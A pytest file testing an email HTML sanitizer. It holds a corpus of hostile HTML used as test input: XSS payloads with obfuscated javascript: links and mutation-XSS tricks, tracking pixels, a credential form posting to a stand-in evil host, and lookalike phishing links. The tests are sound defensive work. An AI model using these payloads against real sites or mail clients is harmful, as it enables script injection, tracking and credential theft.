"""The safe email view's input: a corpus of hostile HTML must come out with nothing a viewer
could load or navigate to (except cid: images and http(s)/mailto links), links analysed for
"real target" and "different host", and pathological markup handled in bounded time."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from agent_desk.channels.email import html_to_text, sanitize_html
from agent_desk.channels.email.sanitize import ALLOWED_TAGS, MAX_NESTING, nesting_depth

# ---- safe HTML ----------------------------------------------------------------------------
HOSTILE = [
    "<script>alert(1)</script>hi", "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>', '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/hostname">https://bank.example</a>', '<img src="file:///etc/passwd">',
    '<img src="https://tracker.example/p.gif" width=1 height=1>',
    '<img src="//tracker.example/p.gif">', '<img src="logo.png">',
    '<div style="background-image:url(https://tracker.example/bg.png)">x</div>',
    '<div style="background:u\\72l(https://x.example)">x</div>',
    "<p style=\"color: red; background: url('https://x.example/a.png')\">x</p>",
    "<style>@import url(https://x.example/a.css); body{background:url(file:///x)}</style>t",
    '<link rel=stylesheet href="https://x.example/a.css">',
    '<iframe src="https://evil.example"></iframe>', '<frameset><frame src="https://e.example">',
    '<form action="https://evil.example/steal"><input name=pw>'
    '<button formaction="https://evil.example">Go</button></form>',
    '<svg><script>alert(1)</script><image href="https://x.example/a.png"/></svg>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><a href="/login">login</a><img src="logo.png">',
    '<object data="https://x.example/a.swf"></object><embed src="https://x.example/a.swf">',
    '<table background="https://x.example/bg.png"><tr><td background="file:///x">a</td></tr>'
    "</table>",
    '<video poster="https://x.example/p.png" src="https://x.example/v.mp4"></video>'
    '<audio src="https://x.example/a.mp3"></audio>',
    '<img srcset="https://x.example/a.png 2x" src="https://x.example/b.png">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<body onload=alert(1) background="https://x.example/bg.png">body',
    '<!--[if gte mso 9]><img src="https://x.example/a.png"><![endif]-->',
    '<a href="http://evil.example" ping="https://track.example/p">x</a>',
    "<img src=\"http://x.example/a.png\" alt='\"><script>alert(1)</script>'>",
    '<isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>',
    '<a href="https://x.example" target="_blank" rel="opener">x</a>',
]
URL_ATTRS = {"src", "href", "background", "action", "formaction", "srcset", "poster", "data",
             "xlink:href", "content", "ping", "cite", "longdesc", "dynsrc", "lowsrc"}


class _Audit(HTMLParser):
    """Counts what a viewer could load or navigate to in sanitised HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.loads: list[str] = []
        self.navigations: list[str] = []
        self.cid_loads: list[str] = []
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            value = value or ""
            low = value.lower().replace(" ", "")
            if name.startswith("on") or any(
                    s in low for s in ("url(", "javascript:", "file:", "data:", "vbscript:")):
                self.bad.append(f"{tag} {name}={value}")
            if name == "href":
                if low.split(":")[0] not in ("http", "https", "mailto"):
                    self.navigations.append(value)
            elif name in URL_ATTRS:
                (self.cid_loads if low.startswith("cid:") else self.loads).append(value)


def audit(html: str) -> _Audit:
    a = _Audit()
    a.feed(html)
    a.close()
    return a


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html_loads_and_navigates_nothing(hostile: str) -> None:
    safe = sanitize_html(hostile)
    a = audit(safe.html)
    assert a.loads == [] and a.navigations == [] and a.bad == [], safe.html
    assert safe.images_not_loaded == safe.html.count("[image not loaded")
    assert a.tags <= ALLOWED_TAGS, a.tags - ALLOWED_TAGS
    for word in ("<script", "<style", "<iframe", "<form", "<svg", "<meta", "<base", "<link"):
        assert word not in safe.html.lower()


def test_allowed_content_survives() -> None:
    safe = sanitize_html('<p>Hi <b>Ada</b></p><img src="cid:logo@bank.example" alt="logo">'
                         '<img src="https://x.example/t.gif" alt="tracker">'
                         '<a href="https://bank.example/help">Help</a> '
                         '<a href="mailto:help@bank.example">mail us</a>',
                         image_placeholder="图片未加载")
    a = audit(safe.html)
    assert a.cid_loads == ["cid:logo@bank.example"] and a.loads == []
    assert safe.cid_images == ("logo@bank.example",)
    assert safe.remote_images == ("https://x.example/t.gif",) and safe.images_not_loaded == 1
    assert "[图片未加载: tracker]" in safe.html and "<b>Ada</b>" in safe.html
    assert [(link.href, link.real_host) for link in safe.links] == [
        ("https://bank.example/help", "bank.example"), ("mailto:help@bank.example", "bank.example")]
    assert safe.suspicious_links == ()


@pytest.mark.parametrize(("html", "host", "flag"), [
    ('<a href="https://evil.example">https://bank.example</a>', "evil.example", True),
    ('<a href="https://evil.example/x">Log in at www.bank.example now</a>', "evil.example", True),
    ('<a href="https://bank.example.evil.example/">bank.example</a>',
     "bank.example.evil.example", True),
    ('<a href="mailto:x@evil.example">help@bank.example</a>', "evil.example", True),
    ('<a href="https://xn--bnk-8cd.example/">https://bank.example</a>', "xn--bnk-8cd.example",
     True),
    ('<a href="https://www.bank.example/login">https://bank.example</a>', "www.bank.example",
     False),
    ('<a href="https://bank.example/">www.bank.example</a>', "bank.example", False),
    ('<a href="https://evil.example/">Click here</a>', "evil.example", False),
    ('<a href="https://files.example/r.pdf">report.pdf</a>', "files.example", False),
    ('<a href="https://xn--mnchen-3ya.example/">münchen.example</a>', "xn--mnchen-3ya.example",
     False),
])
def test_link_host_mismatch(html: str, host: str, flag: bool) -> None:
    (link,) = sanitize_html(html).links
    assert link.real_host == host and link.text_shows_other_host is flag


def test_html_to_text() -> None:
    text = html_to_text("<html><head><title>T</title><style>p{}</style></head><body>"
                        "<p>Hello&nbsp;<b>world</b></p><ul><li>one</li><li>two</li></ul>"
                        '<a href="https://x.example/a">click</a><br>bye<script>x()</script>')
    assert text == "Hello world\n\n- one\n- two\n\nclick <https://x.example/a>\nbye"


@pytest.mark.parametrize("html", [
    "<div>" * 100_000, "<blockquote>x" * 50_000, "</a" * 200_000, "<![CDATA[" * 50_000,
    "<" * 500_000, "<a href='https://x.example'>" * 20_000,
    "<div>" * 400 + "<section>x</section>" * 50_000,
])
def test_pathological_html_takes_bounded_time(html: str) -> None:
    started = time.perf_counter()
    safe = sanitize_html(html)
    text = html_to_text(html)
    assert time.perf_counter() - started < 5
    assert audit(safe.html).loads == [] and isinstance(text, str)
    assert safe.as_text == (nesting_depth(html) > MAX_NESTING)


def test_too_deep_html_is_shown_as_escaped_text() -> None:
    html = "<div>" * (MAX_NESTING + 1) + "<script>alert(1)</script><img src=https://x.example>"
    safe = sanitize_html(html)
    assert safe.as_text and "<script" not in safe.html and "<img" not in safe.html
    assert "alert(1)" in safe.html  # as visible text only
